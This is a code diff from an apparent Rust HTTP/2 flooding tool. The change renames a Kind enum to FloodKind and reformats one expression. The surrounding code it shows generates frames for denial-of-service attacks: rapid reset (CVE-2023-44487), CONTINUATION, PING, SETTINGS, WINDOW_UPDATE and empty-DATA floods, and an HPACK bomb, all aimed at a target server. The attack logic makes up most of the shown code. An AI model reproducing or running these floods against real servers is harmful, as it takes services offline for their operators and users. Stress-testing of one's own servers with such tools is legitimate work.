@@ -39,7 +39,7 @@ const CANCEL: u32 = 8;
 const INITIAL_WINDOW_SIZE: u16 = 4;
 
 #[derive(Clone, Copy, PartialEq, Eq)]
-pub enum Kind {
+pub enum FloodKind {
     /// A request, taken back at once (CVE-2023-44487).
     RapidReset,
     /// A head that never ends (CVE-2024-27316).
@@ -54,16 +54,16 @@ pub enum Kind {
     HpackBomb,
 }
 
-impl Kind {
-    pub fn of(name: &str) -> Option<Kind> {
+impl FloodKind {
+    pub fn of(name: &str) -> Option<FloodKind> {
         Some(match name {
-            "rapid_reset" => Kind::RapidReset,
-            "continuation" => Kind::Continuation,
-            "ping" => Kind::Ping,
-            "settings" => Kind::Settings,
-            "window_update" => Kind::WindowUpdate,
-            "empty_data" => Kind::EmptyData,
-            "hpack_bomb" => Kind::HpackBomb,
+            "rapid_reset" => FloodKind::RapidReset,
+            "continuation" => FloodKind::Continuation,
+            "ping" => FloodKind::Ping,
+            "settings" => FloodKind::Settings,
+            "window_update" => FloodKind::WindowUpdate,
+            "empty_data" => FloodKind::EmptyData,
+            "hpack_bomb" => FloodKind::HpackBomb,
             _ => return None,
         })
     }
@@ -73,7 +73,7 @@ impl Kind {
 ///
 /// # Errors
 /// The server cannot be reached at all.
-pub fn flood(kind: Kind, target: &Target) -> Result<SentCounts, Failure> {
+pub fn flood(kind: FloodKind, target: &Target) -> Result<SentCounts, Failure> {
     let config = target.has_tls.then(|| tls::client(b"h2")).transpose()?;
     let config = config.map(Arc::new);
     let mut sent = SentCounts::default();
@@ -148,7 +148,7 @@ impl Link {
     /// Sends some, and throws away what came.
     fn go_on(
         &mut self,
-        kind: Kind,
+        kind: FloodKind,
         target: &Target,
         sent: &mut SentCounts,
     ) -> Result<(), EndedConnection> {
@@ -206,35 +206,42 @@ impl Link {
     }
 
     /// Makes the next piece of the flood.
-    fn fill(&mut self, kind: Kind, target: &Target) {
+    fn fill(&mut self, kind: FloodKind, target: &Target) {
         let is_first = !std::mem::replace(&mut self.has_begun, true);
-        let head = head(target, if kind == Kind::EmptyData { 0x83 } else { 0x82 });
+        let head = head(
+            target,
+            if kind == FloodKind::EmptyData {
+                0x83
+            } else {
+                0x82
+            },
+        );
         match kind {
-            Kind::HpackBomb => return self.fill_with_a_bomb(head, is_first),
-            Kind::Continuation if is_first => self.frame(HEADERS, 0, 1, &head),
-            Kind::EmptyData if is_first => self.frame(HEADERS, END_HEADERS, 1, &head),
+            FloodKind::HpackBomb => return self.fill_with_a_bomb(head, is_first),
+            FloodKind::Continuation if is_first => self.frame(HEADERS, 0, 1, &head),
+            FloodKind::EmptyData if is_first => self.frame(HEADERS, END_HEADERS, 1, &head),
             _ => {}
         }
         while self.output.len() < PIECE_BYTES {
             match kind {
-                Kind::RapidReset => {
+                FloodKind::RapidReset => {
                     let stream = self.next_stream;
                     self.next_stream += 2;
                     self.frame(HEADERS, END_STREAM | END_HEADERS, stream, &head);
                     self.frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
                 }
                 // A field `x` with the value `y`, as a literal.
-                Kind::Continuation => self.frame(CONTINUATION, 0, 1, &[0, 1, b'x', 1, b'y']),
-                Kind::Ping => self.frame(PING, 0, 0, &[0; 8]),
-                Kind::Settings => {
+                FloodKind::Continuation => self.frame(CONTINUATION, 0, 1, &[0, 1, b'x', 1, b'y']),
+                FloodKind::Ping => self.frame(PING, 0, 0, &[0; 8]),
+                FloodKind::Settings => {
                     let value = 60_000 + (self.output.len() as u32 & 0xff);
                     let [high, low] = INITIAL_WINDOW_SIZE.to_be_bytes();
                     let [a, b, c, d] = value.to_be_bytes();
                     self.frame(SETTINGS, 0, 0, &[high, low, a, b, c, d]);
                 }
-                Kind::WindowUpdate => self.frame(WINDOW_UPDATE, 0, 0, &1u32.to_be_bytes()),
-                Kind::EmptyData => self.frame(DATA, 0, 1, &[]),
-                Kind::HpackBomb => return,
+                FloodKind::WindowUpdate => self.frame(WINDOW_UPDATE, 0, 0, &1u32.to_be_bytes()),
+                FloodKind::EmptyData => self.frame(DATA, 0, 1, &[]),
+                FloodKind::HpackBomb => return,
             }
         }
     }
